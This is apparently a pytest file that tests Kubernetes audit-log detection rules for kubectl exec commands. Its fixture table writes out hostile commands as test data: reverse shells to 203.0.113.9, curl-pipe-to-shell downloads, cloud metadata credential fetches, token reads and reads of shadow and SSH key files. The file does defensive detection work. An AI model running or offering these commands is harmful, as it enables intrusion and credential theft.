"""The exec pack (findings/pack/exec.yaml): what an exec ran: one command that fires and a near
miss for each rule, refused attempts reported apart, the exclusions as data, and a 100 KB
hostile command read in linear time. Panther's own cases: tests/findings/test_peer_packs.py."""

from __future__ import annotations

import time
from urllib.parse import quote

import orjson
import pytest
from conftest import REALDATA
from findings_kit import PACK, RULE, evaluate, req, store_of

from audittui.index.loader import load

COMMAND_RULES = (
    "exec-token-theft",
    "exec-cloud-metadata",
    "exec-reverse-shell",
    "exec-download-run",
    "exec-fetch-https",
    "exec-kubectl-cp",
    "exec-sensitive-file",
)


def exec_req(argv: list[str], *, code: int = 101, **kw) -> dict:
    """A kubectl exec as the API server logs it: the command in the URI's query."""
    query = "&".join("command=" + quote(w, safe="") for w in argv)
    ns = kw.pop("ns", "shop")
    uri = f"/api/v1/namespaces/{ns}/pods/web-1/exec?{query}&container=app&stdin=true&stdout=true"
    stage = "ResponseStarted" if code == 101 else "ResponseComplete"
    return req(
        "create", "pods", sub="exec", name="web-1", ns=ns, code=code, uri=uri, stage=stage, **kw
    )


def fired_on(tmp_path, *events: dict) -> set[str]:
    _, fired, _ = evaluate(store_of(tmp_path, list(events)), PACK)
    return set(fired)


SH = ["sh", "-c"]
# rule → (commands that fire it, near misses that do not)
COMMANDS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "exec-token-theft": (
        [
            ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            [*SH, "cat /run/secrets/kubernetes.io/serviceaccount/token | base64"],
            ["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"],
            [*SH, "cat $AWS_WEB_IDENTITY_TOKEN_FILE"],
            [*SH, "cd /var/run/secrets && cat kubernetes.io/serviceaccount/token"],
            ["ls", "/var/run/secrets"],
        ],
        [["cat", "/var/run/secretsanta.txt"], ["ls", "/var/run"], ["cat", "/app/token.txt"]],
    ),
    "exec-cloud-metadata": (
        [
            ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
            [*SH, "wget -qO- http://METADATA.google.internal/computeMetadata/v1/"],
            ["curl", "http://[fd00:ec2::254]/latest/api/token"],
            ["curl", "http://2852039166/"],
            ["curl", "http://169.254.170.23/v1/credentials"],
            ["curl", "http://100.100.100.200/latest/meta-data/"],
        ],
        [
            ["curl", "http://169.254.1.1/"],
            ["curl", "http://10.100.100.200/"],
            ["ping", "google.com"],
        ],
    ),
    "exec-reverse-shell": (
        [
            ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
            [*SH, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"],
            ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
            ["ncat", "203.0.113.9", "4444", "--sh-exec", "sh"],
            ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr"],
            [*SH, "/bin/sh -i 2>&1 | nc 203.0.113.9 4444"],
            [
                "python3",
                "-c",
                "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
                "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
            ],
            ["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,"x")'],
            # a payload beside a loopback probe is not a loopback probe
            [*SH, "echo > /dev/tcp/127.0.0.1/8080; bash -i >& /dev/tcp/203.0.113.9/1 0>&1"],
        ],
        [
            [*SH, "echo > /dev/tcp/127.0.0.1/8080"],  # a port probe, as health checks do
            [*SH, "exec 3<>/dev/tcp/localhost/9090"],
            ["nc", "-z", "db", "5432"],
            ["python3", "-c", "import socket; print(socket.gethostname())"],
            ["bash", "-i"],
            [*SH, "echo done >&/dev/stderr"],
            [*SH, "cat /tmp/report | nc -q 1 collector 9000"],  # exfil, not a shell
            [*SH, "clear; (bash || ash || sh)"],  # what k9s and Lens run for a shell
        ],
    ),
    "exec-download-run": (
        [
            [*SH, "curl -fsSL https://203.0.113.9/x.sh | sh"],
            [*SH, "wget -qO- http://203.0.113.9/x | /bin/bash"],
            ["bash", "-c", "$(curl -fsSL https://203.0.113.9/x)"],
            [*SH, "wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"],
            [*SH, "curl -o /tmp/x http://203.0.113.9/x; sh /tmp/x"],
            [*SH, "echo Y3VybCBldmls | base64 -d | sh"],
        ],
        [
            [*SH, "curl -s http://svc:8080/metrics | grep up"],
            [*SH, "wget -O /tmp/f http://x/f && chmod 644 /tmp/f"],
            ["curl", "http://svc/"],
        ],
    ),
    "exec-fetch-https": (
        [["curl", "-k", "https://203.0.113.9/loot"], ["wget", "https://example.com/tool"]],
        [
            ["curl", "-k", "https://kubernetes.default.svc/api"],
            ["curl", "https://localhost:8443/healthz"],
            ["curl", "http://example.com/"],
        ],
    ),
    "exec-kubectl-cp": (
        [
            ["tar", "cf", "-", "/app/data"],
            ["tar", "-cf", "-", "-C", "/app", "data"],
            [*SH, "tar czf - /srv | base64"],
        ],
        [
            ["tar", "xf", "-", "-C", "/tmp"],  # kubectl cp into the pod
            ["tar", "czf", "backup.tar.gz", "/app/data"],
            ["cat", "/app/tar.cf"],
        ],
    ),
    "exec-sensitive-file": (
        [
            ["cat", "/etc/shadow"],
            ["cat", "/etc/kubernetes/admin.conf"],
            [*SH, "cat ~/.aws/credentials"],
            ["cat", "/root/.ssh/id_rsa"],
            ["cat", "/proc/1/environ"],
            ["cat", "/var/lib/kubelet/kubeconfig"],
            ["cat", "/etc/ssl/private/server.key"],
        ],
        [
            ["cat", "/etc/passwd"],
            ["cat", "/etc/resolv.conf"],
            ["cat", "/etc/hostname"],
            [*SH, "cat /app/config.json | jq .key"],
        ],
    ),
}


def test_the_table_covers_every_command_rule():
    assert sorted(COMMANDS) == sorted(COMMAND_RULES)
    assert all(RULE[r].enabled for r in COMMAND_RULES)


@pytest.mark.parametrize("rule_id", COMMAND_RULES)
def test_command_rule_fires_and_its_near_misses_do_not(tmp_path, rule_id):
    hits, misses = COMMANDS[rule_id]
    for argv in hits:
        fired = fired_on(tmp_path, exec_req(argv))
        assert rule_id in fired, argv
        assert "exec-attach" in fired  # the session itself is still reported
    for argv in misses:
        fired = fired_on(tmp_path, exec_req(argv))
        assert rule_id not in fired, argv
        assert "exec-attach" in fired


REFUSED_KEEPS = [r for r in COMMAND_RULES if r != "exec-fetch-https"]  # its regexes' rules


@pytest.mark.parametrize("rule_id", COMMAND_RULES)
def test_a_refused_command_is_an_attempt_reported_apart(tmp_path, rule_id):
    """Every command of the table refused: not the rule (nothing ran) but exec-command-refused,
    at a lower severity, exactly when one of the rules it keeps in step with fires on it
    allowed (its regexes are theirs, copied: this keeps them the same)."""
    hits, misses = COMMANDS[rule_id]
    for argv in hits + misses:
        allowed = fired_on(tmp_path, exec_req(argv))
        refused = fired_on(tmp_path, exec_req(argv, code=403, decision="forbid"))
        assert not refused & set(COMMAND_RULES) and "exec-attach" not in refused, argv
        assert "exec-refused" in refused
        assert ("exec-command-refused" in refused) is bool(allowed & set(REFUSED_KEEPS)), argv
    if rule_id in REFUSED_KEEPS:
        assert RULE["exec-command-refused"].rank > RULE[rule_id].rank


def test_a_plain_refused_exec_is_only_the_attempt(tmp_path):
    fired = fired_on(tmp_path, exec_req(["sh"], code=403, decision="forbid"))
    assert fired == {"exec-refused"}
    assert RULE["exec-refused"].severity == "info"


def test_system_principals_in_system_namespaces_are_left_out_of_token_theft_only(tmp_path):
    proxy = "system:serviceaccount:kube-system:kube-proxy"
    token = ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
    assert "exec-token-theft" not in fired_on(
        tmp_path, exec_req(token, user=proxy, ns="kube-system")
    )
    # identity is exact: the same name elsewhere, or a person in kube-system, is reported
    assert "exec-token-theft" in fired_on(tmp_path, exec_req(token, user=proxy, ns="shop"))
    assert "exec-token-theft" in fired_on(tmp_path, exec_req(token, ns="kube-system"))
    assert "exec-token-theft" in fired_on(
        tmp_path, exec_req(token, user="system:serviceaccount:kube-systemx:a", ns="kube-system")
    )
    # a reverse shell has no excuse
    shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
    assert "exec-reverse-shell" in fired_on(tmp_path, exec_req(shell, user=proxy, ns="kube-system"))


def test_the_benign_tooling_commands_are_data(tmp_path):
    cilium = ["cilium", "status", "-o", "json"]
    assert "exec-attach" not in fired_on(tmp_path, exec_req(cilium, ns="kube-system"))
    assert "exec-attach" in fired_on(tmp_path, exec_req(cilium, ns="shop"))  # exact namespace
    assert "exec-attach" in fired_on(tmp_path, exec_req([*cilium, "; id"], ns="kube-system"))


def test_rules_read_the_uri_so_metadata_logs_are_not_blind(tmp_path):
    store = store_of(tmp_path, [exec_req(["cat", "/etc/shadow"], level="Metadata")])
    _, fired, blind = evaluate(store, PACK)
    assert "exec-sensitive-file" in fired
    assert not [r for r in blind if r.startswith("exec")]


def test_a_100_kb_hostile_command_is_searched_in_linear_time(tmp_path):
    """Near misses of every regex, repeated to 100 KB and to 400 KB: nothing fires but the
    session; then the token path after 100 KB of padding still fires. Measured loosely (the
    regexes are RE2's: no input can make them backtrack)."""
    piece = "cat /var/run/secretsX tar cf x /dev/tc nc -z curl| ba 169.254.169.25 /etc/shado "
    small = [*SH, piece * (100_000 // len(piece))]
    big = [*SH, piece * (400_000 // len(piece))]

    def timed(argv: list[str]) -> tuple[set[str], float]:
        start = time.perf_counter()
        fired = fired_on(tmp_path, exec_req(argv))
        return fired, time.perf_counter() - start

    fired_small, t_small = timed(small)
    fired_big, t_big = timed(big)
    assert fired_small == fired_big == {"exec-attach"}
    assert t_big < 40 * t_small + 2.0  # four times the text: far from quadratic
    padded = [*SH, " " * 100_000 + "cat /var/run/secrets/kubernetes.io/serviceaccount/token"]
    assert "exec-token-theft" in fired_on(tmp_path, exec_req(padded))


def test_a_real_gke_exec_logged_with_status_unknown_is_a_session(tmp_path):
    """GKE logs an exec that ran with status UNKNOWN (2); read as the 101 the API server
    logs, it is exec-attach, not a refused attempt. A denied one (granted false, 7) is."""
    real = REALDATA / "stackdriver-webhook-bridge" / "log_entries" / "exec_pod.json"
    store = load(real)
    assert (store.value("code", 0), store.value("stage", 0)) == (101, "ResponseStarted")
    _, fired, _ = evaluate(store, PACK)
    assert "exec-attach" in fired and "exec-refused" not in fired
    entry = orjson.loads(real.read_bytes())
    payload = orjson.loads(entry["AuditPayload"])
    payload["status"] = {"code": 7, "message": "PERMISSION_DENIED"}
    payload["authorizationInfo"][0]["granted"] = False
    entry["AuditPayload"] = orjson.dumps(payload).decode()
    _, fired, _ = evaluate(store_of(tmp_path, [entry]), PACK)
    assert "exec-refused" in fired and "exec-attach" not in fired


@pytest.mark.parametrize(
    "ns, pod, fires",
    [
        ("trident", "trident-controller-7c9d", False),  # Elastic's exclusion (exec_benign_pods)
        ("trident", "trident-node-linux-x2", True),
        ("shop", "trident-controller-7c9d", True),  # the name alone is no pass
    ],
)
def test_exec_attach_spares_only_the_benign_pods(tmp_path, ns, pod, fires):
    uri = f"/api/v1/namespaces/{ns}/pods/{pod}/exec?command=tridentctl&command=version&stdout=true"
    ev = req("create", "pods", sub="exec", ns=ns, name=pod, code=101, uri=uri)
    assert ("exec-attach" in fired_on(tmp_path, ev)) is fires


@pytest.mark.parametrize(
    "argv, fires",
    [
        (["/bin/sh"], True),
        (["/usr/bin/python3", "-c", "print(1)"], True),
        (["sh", "-c", "/bin/bash -i"], True),
        (["/bin/shred", "x"], False),
        (["ls", "/bin"], False),
    ],
)
def test_exec_shell_or_tool_reads_the_command(tmp_path, argv, fires):
    assert ("exec-shell-or-tool" in fired_on(tmp_path, exec_req(argv))) is fires
